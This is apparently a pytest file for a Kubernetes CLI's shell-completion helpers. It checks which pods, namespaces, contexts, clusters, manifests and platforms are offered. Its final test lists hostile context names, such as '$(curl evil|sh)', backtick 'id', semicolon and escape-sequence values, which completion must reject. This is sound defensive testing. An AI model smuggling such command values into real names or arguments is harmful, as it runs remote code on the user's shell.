"""Completion offers what fits, and never a word about what went wrong."""

import json
from collections.abc import Mapping
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, cast

import pytest
import typer

from bot.cli import completion
from bot.demo import story


@dataclass
class _Typed:
    params: Mapping[str, Any] = field(default_factory=dict)


def _so_far(**params: object) -> typer.Context:
    return cast("typer.Context", _Typed(params))


def test_completion_offers_failing_pods_of_a_dump() -> None:
    """With --from the failing pods come from it, with their namespace where none was given."""
    assert "shop/api-59fffb898-49n67" in completion.targets(_so_far(source=story.RECORDINGS), "shop/")
    typed = _so_far(source=str(story.RECORDINGS), namespace="shop")
    assert "api-59fffb898-49n67" in completion.targets(typed, "api-")


def test_completion_offers_kinds() -> None:
    """A kind that begins as typed is offered too."""
    assert completion.targets(_so_far(source=Path("/nonexistent")), "dep") == ["deploy/"]


def test_completion_offers_namespaces_of_a_dump() -> None:
    """Namespaces come from where the line points so far."""
    assert completion.namespaces(_so_far(source=story.RECORDINGS), "sh") == ["shop"]


def test_completion_offers_causes() -> None:
    """The shipped causes, for playbooks render."""
    assert "wrong-tag" in completion.causes(_so_far(), "wrong-")


def test_completion_offers_contexts_and_clusters(tmp_path: Path) -> None:
    """From the files that the line names."""
    (tmp_path / "config").write_text("contexts: [{name: prod, context: {}}, {name: dev, context: {}}]\n")
    (tmp_path / "settings").write_text("clusters: {one: {}, two: {}}\n")
    assert completion.contexts(_so_far(kubeconfig=tmp_path / "config"), "p") == ["prod"]
    assert completion.clusters(_so_far(config=tmp_path / "settings"), "") == ["one", "two"]


def test_completion_offers_manifests_and_platforms(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Files of the right sort and folders; hidden ones once somebody begins to type them."""
    for name in ("web.yaml", "web.json", "notes.txt", ".hidden.yaml", "-x.yaml"):
        (tmp_path / name).touch()
    (tmp_path / "k8s").mkdir()
    (tmp_path / "k8s" / "api.yml").touch()
    monkeypatch.chdir(tmp_path)
    assert completion.manifests(_so_far(), "") == ["k8s/", "web.json", "web.yaml"]
    assert completion.manifests(_so_far(), "k8s/") == ["k8s/api.yml"]
    assert completion.manifests(_so_far(), f"{tmp_path}/we") == [
        f"{tmp_path}/web.json",
        f"{tmp_path}/web.yaml",
    ]
    assert completion.manifests(_so_far(), ".h") == [".hidden.yaml"]
    assert completion.manifests(_so_far(), "gone/") == []
    assert completion.platforms(_so_far(), "linux/arm") == ["linux/arm/v7", "linux/arm64"]


@pytest.mark.parametrize("ask", [completion.contexts, completion.clusters, completion.namespaces])
def test_completion_is_silent_about_failures(ask: Any, capsys: pytest.CaptureFixture[str]) -> None:
    """A file that is not there offers nothing and says nothing."""
    nowhere = Path("/nonexistent")
    assert ask(_so_far(kubeconfig=nowhere, config=nowhere, source=nowhere), "") == []
    assert capsys.readouterr() == ("", "")


@pytest.mark.parametrize(
    ("name", "offered"),
    [
        ("prod-eu", True),
        ("arn:aws:eks:eu-west-1:123456789012:cluster/prod", True),
        ("kubernetes-admin@kubernetes", True),
        ("$(curl evil|sh)", False),
        ("`id`", False),
        ("a;b", False),
        ("a b", False),
        ("--no-exec", False),
        ("a\x1b[2J", False),
        ("a\u202eb", False),
        ("a\nb", False),
    ],
)
def test_completion_offers_nothing_that_a_shell_would_run(tmp_path: Path, name: str, offered: bool) -> None:
    """A candidate becomes a part of the line that somebody is about to send off."""
    config = tmp_path / "config"
    config.write_text(json.dumps({"contexts": [{"name": name, "context": {}}]}))
    assert completion.contexts(_so_far(kubeconfig=config), "") == ([name] if offered else [])
